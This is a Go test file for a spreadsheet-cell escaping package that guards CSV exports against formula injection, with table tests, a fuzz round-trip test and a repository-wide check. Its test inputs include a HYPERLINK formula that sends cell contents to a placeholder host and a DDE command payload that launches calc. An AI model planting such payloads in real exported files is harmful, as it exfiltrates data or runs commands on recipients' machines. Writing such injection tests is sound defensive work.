package sheet

import (
	"bytes"
	"encoding/csv"
	"io/fs"
	"os"
	"path"
	"strings"
	"testing"
)

func TestCell(t *testing.T) {
	for text, want := range map[string]string{
		"": "", "police report": "police report", "it's =": "it's =", "'quoted'": "'quoted'", "a-b": "a-b",
		"-1": "-1", "+2.5": "+2.5", "-3,25": "-3,25", "1e-5": "1e-5", "-12%": "-12%",
		`=HYPERLINK("http://a.example/?"&A1,"x")`: `'=HYPERLINK("http://a.example/?"&A1,"x")`,
		"+cmd|' /C calc'!A0":                      "'+cmd|' /C calc'!A0",
		"-2+3":                                    "'-2+3",
		"@SUM(1)\t-1+1":                           "'@SUM(1)\t-1+1",
		"\t=1+1":                                  "'\t=1+1",
		"\r=1+1":                                  "'\r=1+1",
		"\tplain":                                 "'\tplain",
		" =1+1":                                   "' =1+1",
		`"=1+1`:                                   `'"=1+1`,
		"'=1+1":                                   "''=1+1",
		"\ufeff=1+1":                              "'\ufeff=1+1",
		"\u200b@x":                                "'\u200b@x",
		"＝1+1":                                    "'＝1+1",
		"+49 30 1234":                             "'+49 30 1234",
	} {
		got := Cell(text)
		if got != want {
			t.Errorf("%q is written as %q, want %q", text, got, want)
		}
		if back := Plain(got); back != text {
			t.Errorf("%q comes back as %q", text, back)
		}
	}
}

func FuzzRoundTrip(f *testing.F) {
	for _, s := range []string{"=1", "'=1", "''=1", "-1", "'-1", "\t", " \"'@", "'"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, text string) {
		cell := Cell(text)
		if Plain(cell) != text {
			t.Errorf("%q is written as %q and comes back as %q", text, cell, Plain(cell))
		}
		if strings.HasPrefix(cell, "=") || strings.HasPrefix(cell, "@") || strings.HasPrefix(cell, "\t") || strings.HasPrefix(cell, "\r") {
			t.Errorf("%q acts", cell)
		}
		var b bytes.Buffer
		w := NewWriter(&b)
		w.Row("x", text)
		if err := w.Flush(); err != nil {
			t.Fatal(err)
		}
		row, err := csv.NewReader(&b).Read()
		if err != nil || len(row) != 2 || row[1] != strings.ReplaceAll(cell, "\r\n", "\n") {
			t.Errorf("%q is read as %q, %v", cell, row, err)
		}
	})
}

// Whoever writes a table writes it through here. What the simulator answers to programs is no table
// for people, and has to be as the CRM's.
func TestEveryTable(t *testing.T) {
	root := os.DirFS("../..")
	err := fs.WalkDir(root, ".", func(name string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			if d != nil && d.IsDir() && (d.Name() == "node_modules" || d.Name() == ".git" || name == "salesforce/sim") {
				return fs.SkipDir
			}
			return err
		}
		if path.Ext(name) != ".go" || strings.HasSuffix(name, "_test.go") || name == "internal/sheet/sheet.go" {
			return nil
		}
		b, err := fs.ReadFile(root, name)
		if err == nil && bytes.Contains(b, []byte("csv.NewWriter(")) {
			t.Errorf("%s writes a table without internal/sheet", name)
		}
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
}
